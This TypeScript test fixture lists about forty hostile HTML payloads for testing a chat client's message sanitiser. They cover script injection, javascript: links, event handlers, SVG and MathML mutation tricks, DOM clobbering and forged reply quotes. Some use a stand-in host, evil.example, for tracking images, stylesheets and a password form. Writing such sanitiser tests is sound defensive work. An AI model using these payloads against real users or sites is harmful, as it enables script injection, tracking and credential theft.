/**
 * Hostile formatted_body payloads shared by the sanitiser's unit tests and
 * the browser XSS page: script injection in every form we know of, links
 * and images that must not resolve, forged reply fallbacks and deep
 * nesting. Each payload that could run script sets window.__latticeXss, so
 * a test can check that nothing ran.
 */

/** One hostile payload, named for the report of a failing test. */
export interface HostilePayload {
  readonly name: string;
  readonly html: string;
}

const FLAG = "window.__latticeXss=1";
const deep = (n: number): string => "<div>".repeat(n) + "deep text" + "</div>".repeat(n);
const deepSpans = (n: number): string => "<span>".repeat(n) + "deep span" + "</span>".repeat(n);

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { name: "script tag", html: `<script>${FLAG}</script>visible` },
  { name: "javascript link", html: `<a href="javascript:${FLAG}">click me</a>` },
  { name: "javascript link, mixed case and spaces", html: `<a href="  JaVaScRiPt:${FLAG}">click</a>` },
  { name: "javascript link, entity encoded", html: `<a href="&#106;avascript:${FLAG}">click</a>` },
  { name: "data link", html: `<a href="data:text/html,<script>${FLAG}</script>">data</a>` },
  { name: "vbscript link", html: `<a href="vbscript:msgbox(1)">vb</a>` },
  { name: "relative link", html: `<a href="/logout">relative</a>` },
  { name: "onerror image", html: `<img src="x" onerror="${FLAG}">` },
  { name: "onerror mxc image", html: `<img src="mxc://example.org/abc" onerror="${FLAG}" onload="${FLAG}">` },
  { name: "non-mxc image", html: `<img src="https://evil.example/track.png" alt="tracker">` },
  { name: "data image", html: `<img src="data:image/svg+xml,<svg onload='${FLAG}'/>" alt="data">` },
  { name: "protocol-relative image", html: `<img src="//evil.example/x.png" alt="pr">` },
  { name: "event handler on allowed tag", html: `<p onclick="${FLAG}" onmouseover="${FLAG}">hover</p>` },
  { name: "svg onload", html: `<svg onload="${FLAG}"><circle r="5"/></svg>after svg` },
  { name: "svg script", html: `<svg><script>${FLAG}</script></svg>` },
  {
    name: "svg animate href",
    html: `<svg><a><animate attributeName="href" values="javascript:${FLAG}"/><text>x</text></a></svg>`,
  },
  { name: "math mglyph", html: `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}">` },
  {
    name: "style tag",
    html: `<style>body{display:none}@import url(https://evil.example/x.css);</style>styled`,
  },
  { name: "style attribute", html: `<span style="background:url(https://evil.example/bg.png)">bg</span>` },
  { name: "iframe srcdoc", html: `<iframe srcdoc="<script>${FLAG}</script>"></iframe>` },
  { name: "object data", html: `<object data="javascript:${FLAG}"></object>` },
  { name: "embed", html: `<embed src="https://evil.example/x.swf">` },
  {
    name: "form action",
    html: `<form action="https://evil.example"><input name="pw"><button>go</button></form>`,
  },
  { name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=https://evil.example">` },
  { name: "base href", html: `<base href="https://evil.example/">` },
  { name: "link stylesheet", html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  { name: "noscript mutation", html: `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">` },
  { name: "comment breakout", html: `<!--><img src=x onerror=${FLAG}>-->` },
  { name: "bad colour", html: `<font color="red" data-mx-color="expression(alert(1))">c</font>` },
  {
    name: "colour injection",
    html: `<span data-mx-bg-color="#fff;background:url(https://evil.example)">c</span>`,
  },
  { name: "code class", html: `<code class="language-js evil-class">x</code><code class="mx_App">y</code>` },
  {
    name: "id and name clobbering",
    html: `<a id="__latticeXss" name="location" href="https://example.org">dom</a>`,
  },
  { name: "target override", html: `<a href="https://example.org" target="_self">self</a>` },
  {
    name: "mx-reply forgery",
    html: `<mx-reply><blockquote><a href="https://matrix.to/#/!r:x/$e">In reply to</a> forged quote</blockquote></mx-reply>real reply`,
  },
  {
    name: "mx-reply forgery mid-body",
    html: `first<mx-reply><img src=x onerror="${FLAG}">hidden forged</mx-reply>last`,
  },
  { name: "nested 200 deep", html: deep(200) },
  { name: "spans 200 deep", html: deepSpans(200) },
  { name: "unclosed tags", html: `<b><i><u>unclosed` },
  { name: "template", html: `<template><img src=x onerror="${FLAG}"></template>tmpl` },
  { name: "details ontoggle", html: `<details open ontoggle="${FLAG}"><summary>s</summary>d</details>` },
];
